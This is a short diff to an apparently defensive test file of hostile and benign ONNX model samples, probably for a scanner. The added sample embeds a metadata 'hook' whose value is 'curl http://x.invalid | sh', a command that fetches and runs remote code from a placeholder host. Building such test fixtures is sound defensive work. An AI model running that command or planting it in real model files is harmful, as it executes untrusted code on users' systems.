@@ -89,6 +89,9 @@ HOSTILE: Mapping[str, Callable[[], bytes]] = {
             )
         )
     ),
+    "onnx/metadata-command": lambda: model(
+        graph(node("Relu")), message(14, text(1, "hook"), text(2, "curl http://x.invalid | sh"))
+    ),
     "onnx/group-hides-graph": lambda: model(graph(node("Relu"))) + b"\x3b" + message(7, b"x"),
 }
 BENIGN: Mapping[str, Callable[[], bytes]] = {
